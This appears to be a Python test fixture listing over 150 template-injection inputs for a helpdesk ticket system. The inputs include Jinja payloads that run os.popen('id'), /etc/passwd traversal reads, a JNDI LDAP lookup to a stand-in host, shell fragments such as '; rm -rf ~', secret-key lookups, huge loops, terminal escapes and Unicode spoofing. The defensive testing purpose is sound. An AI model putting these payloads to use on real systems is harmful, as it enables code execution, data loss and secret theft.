"""What somebody may call himself, or write, to make a template run, blow up, read a secret, or stop a reply."""

from typing import Final

_EXPRESSIONS: Final = (
    "7*7", "7 | times: 7", "'7' | times: 7", "agent.email", "agent", "desk", "desk.name", "ask", "ask.secret", "self", "ticket",
    "ticket.description", "requester", "requester.name", "requester.email", "contact.name", "config", "settings.SECRET_KEY",
    "request.environ", "''.__class__.__mro__[1].__subclasses__()", "cycler.__init__.__globals__.os.popen('id').read()",
    "lipsum.__globals__['os'].system('id')", "[].__class__.__base__", "().__class__.__bases__[0]", "x.__dict__",
    "'a' | append: agent.email", "'now' | date: '%Y'", "'now' | date: '%999999999d'", "(1..1000000000) | join",
    "'%7B%7B agent.name %7D%7D' | url_decode", "'e3sgYWdlbnQubmFtZSB9fQ==' | base64_decode", "ticket | json", "site.pages",
    "_moment", "[' moment']", "a.b.c.d.e.f", "0 | divided_by: 0", "'x' | nofilter", "", " ", "|", "'", '"', "'unclosed", "1..",
    "{{ agent.name }}", "%} {{ agent.name }} {%", "}} {{ agent.email }} {{",
)  # fmt: skip
_TAGS: Final = (
    "if agent", "if agent %}yes{% endif", "for i in (1..100000000)", "for i in (1..9999999) %}x{% endfor", "include 'secret'",
    "render '/etc/passwd'", "include '../../etc/passwd'", "layout 'x'", "extends 'x'", "block x", "assign x = agent.email",
    "capture x", "raw", "endraw", "comment", "endcomment", "doc", "liquid echo agent.email", "echo agent.email", "cycle 'a', 'b'",
    "increment x", "decrement x", "tablerow i in (1..9)", "case x", "when 1", "unless true", "break", "continue", "else", "endif",
    "endfor", "", "#", "# comment", "import os", "python", "macro x()", "call x", "set x = 1", "autoescape false",
)  # fmt: skip
_OTHERS: Final = (
    "{{", "{%", "}}", "%}", "{", "}", "%", "{{{", "}}}", "{{-", "-}}", "{%-", "-%}", "{#", "#}", "{{{{ agent.name }}}}",
    "{ { agent.name } }", "{\u2060{ agent.name }}", "{\u200b{ agent.name }}", "\ufdd00:0\ufdd1", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "@{7*7}", "{{7*7", "7*7}}", "{%if", "${jndi:ldap://example.org/a}", "$(id)", "`id`", "; rm -rf ~", "| cat", "&& id", "%s%s%n",
    "%(name)s", "{0}", "{name}", "{agent.name.__class__}", "<script>alert(1)</script>", "[bold]x[/bold]", "[link=x]y[/link]",
    "\x1b[2J", "\x1b]0;owned\x07", "\x9b2J", "\u202egnp.exe", "+++", "+++\ntitle = 'x'\n+++", "# Heading", "```run\nid\n```",
    "\\{{ agent.name }}", "{\\{ agent.name }}", "{{ agent.name }\u2060}", "\u2060{{ agent.name }}", "{{\u2060agent.name}}",
)  # fmt: skip

INJECTIONS: Final = (
    *(f"{{{{ {one} }}}}" for one in _EXPRESSIONS),
    *(f"{{{{{one}}}}}" for one in _EXPRESSIONS[:8]),
    *(f"{{%- {one} -%}}" for one in _TAGS[:8]),
    *(f"{{% {one} %}}" for one in _TAGS),
    *_OTHERS,
)
"""More than a hundred and fifty."""
